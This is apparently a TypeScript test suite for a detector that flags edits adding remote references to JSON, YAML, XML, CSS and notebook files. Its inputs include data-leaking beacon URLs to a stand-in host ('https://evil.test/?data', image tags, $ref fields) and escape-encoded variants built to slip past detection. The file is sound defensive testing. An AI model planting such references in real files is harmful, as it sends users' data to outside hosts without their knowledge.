import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  addedLocalReferences,
  addsRemoteReference,
} from '../../../../src/core/approval/remoteReference.ts';
import { harmless, remote } from './remoteTexts.ts';

describe('addsRemoteReference', () => {
  for (const text of remote) {
    it(`finds one in ${text}`, () => {
      assert.equal(addsRemoteReference('', text), true);
      assert.equal(addsRemoteReference('a\n', `a\n  ${text}\n`), true);
    });
  }

  for (const text of harmless) {
    it(`finds none in ${text}`, () => assert.equal(addsRemoteReference('', text), false));
  }

  it('ignores existing addresses, and finds another one', () => {
    const before = '{ "$schema": "https://a.test/s", "a": 1 }';
    assert.equal(addsRemoteReference(before, before.replace('1', '2')), false);
    assert.equal(addsRemoteReference(before, before.replace('/s', '/s?data')), true);
    assert.equal(addsRemoteReference(before, '{}'), false);
  });

  it('finds another address even after a comment or a line break', () => {
    for (const before of [
      '{ "$schema": /* a */ "./a" }',
      '$schema: >-\n  ./a',
      '@import\n"./a";',
      '@import /* a */\n"./a";',
    ]) {
      assert.equal(addsRemoteReference(before, before.replace('./a', 'https://evil.test')), true);
      assert.equal(addsRemoteReference(before, before.replace('./a', './b')), false);
    }
  });

  it('finds a field and an address, however their characters are escaped', () => {
    const escapes: Readonly<Record<string, readonly ((code: number) => string)[]>> = {
      json: [(code) => `\\u${hex(code, 4)}`, (code) => `\\u${hex(code, 4).toUpperCase()}`],
      yaml: [
        (code) => `\\x${hex(code, 2)}`,
        (code) => `\\u${hex(code, 4)}`,
        (code) => `\\U${hex(code, 8)}`,
        (code) => `\\\n   ${String.fromCharCode(code)}`,
      ],
    };
    const fields = ['$schema', '$ref', '$dynamicRef', 'operationRef'];
    const addresses = ['https://evil.test/a', '//evil.test/a', 'http://evil.test?a'];
    fc.assert(
      fc.property(
        fc.constantFrom(...Object.keys(escapes)),
        fc.constantFrom(...fields),
        fc.constantFrom(...addresses),
        fc.array(fc.nat({ max: 6 }), { minLength: 40, maxLength: 40 }),
        (language, name, url, choices) => {
          const ways = escapes[language] ?? [];
          const written = Array.from(name + url, (character, index) => {
            const way = ways[choices[index] ?? 0];
            return way === undefined ? character : way(character.charCodeAt(0));
          });
          const key = written.slice(0, name.length).join('');
          const value = written.slice(name.length).join('');
          const text = `"${key}": "${value}"`;
          assert.equal(addsRemoteReference('', `{ ${text} }`), true, text);
          assert.equal(addsRemoteReference('a: 1\n', `a: 1\n${text}\n`), true, text);
        },
      ),
    );
  });

  it('takes linear time', () => {
    const start = performance.now();
    for (const piece of [
      '$schema:',
      '<!DOCTYPE ',
      '@import ',
      'schemaLocation="',
      '\\u002',
      '//',
      '$schema/*',
      '$schema: ',
      '@import\n',
      '@import url(',
      '@import/*',
      '#:schema',
      '\\\n ',
      '$ref: *a ',
      '"$ref" ',
      '<!DOCTYPE "',
      '<!ENTITY \'"',
      '<a:include ',
      '<include "',
      '&a ',
      '\\U0000',
      '"$id"',
    ]) {
      addsRemoteReference('', piece.repeat(100_000));
    }
    assert.ok(performance.now() - start < 15_000, `${performance.now() - start} ms`);
  });
});

function hex(code: number, length: number): string {
  return code.toString(16).padStart(length, '0');
}

describe('addsRemoteReference of a notebook', () => {
  const cell = (kind: string, source: string): string => `%% cell 1 ${kind}\n${source}\n`;
  const remote = [
    '![a](https://evil.test/?data)',
    '![a][1]\n\n[1]: //evil.test/a.png',
    '<img src="https:&#47;&#47;evil.test/a">',
    '<video poster=https://evil.test/a>',
  ];
  for (const source of remote) {
    it(`finds ${source} in cells that are rendered immediately`, () => {
      assert.equal(addsRemoteReference('', cell('markdown', source)), true);
      const known = cell('markdown', source);
      assert.equal(addsRemoteReference(known, `${known}more\n`), false);
      assert.equal(addsRemoteReference('', cell('code python', source)), false);
      assert.equal(
        addsRemoteReference('', source),
        false,
        'Other files show nothing by themselves.',
      );
    });
  }

  it('finds nothing in links and in files beside the notebook', () => {
    for (const source of ['[a](https://a.test/)', '![a](images/a.png)', 'if a < b: https://a.test'])
      assert.equal(addsRemoteReference('', cell('markdown', source)), false);
  });
});

describe('addedLocalReferences', () => {
  const table: readonly (readonly [string, readonly string[]])[] = [
    ['{ "$schema": "./a.json" }', ['./a.json']],
    ['{ "$ref": "../b/a.json#/definitions/x" }', ['../b/a.json']],
    ['{ "$ref": "a%20b.json?x" }', ['a%20b.json']],
    ['{ "$schema": "file:///work/a.json" }', ['/work/a.json']],
    ['# yaml-language-server: $schema=schemas/a.json', ['schemas/a.json']],
    ['"\\x24ref": "\\x2e/a.yaml"', ['./a.yaml']],
    ['<a xsi:schemaLocation="urn:a a.xsd urn:b ../b.xsd"/>', ['a.xsd', '../b.xsd']],
    ['<!DOCTYPE a SYSTEM "a.dtd">', ['a.dtd']],
    ['<xi:include href="parts/a.xml"/>', ['parts/a.xml']],
    ['#:schema ./a.json', ['./a.json']],
    ['{ "$ref": "#/definitions/x" }', []],
    ['{ "$ref": "https://a.test/b.json" }', []],
    ['@import "./a.css";', []],
    ['const a = "./b.json";', []],
  ];
  for (const [text, expected] of table) {
    it(`finds ${expected.join(', ') || 'nothing'} in ${text}`, () => {
      const references = addedLocalReferences('', text);
      for (const path of expected) assert.ok(references.includes(path), references.join());
      if (expected.length === 0) assert.deepEqual(references, []);
      assert.deepEqual(addedLocalReferences(text, text), []);
    });
  }
});
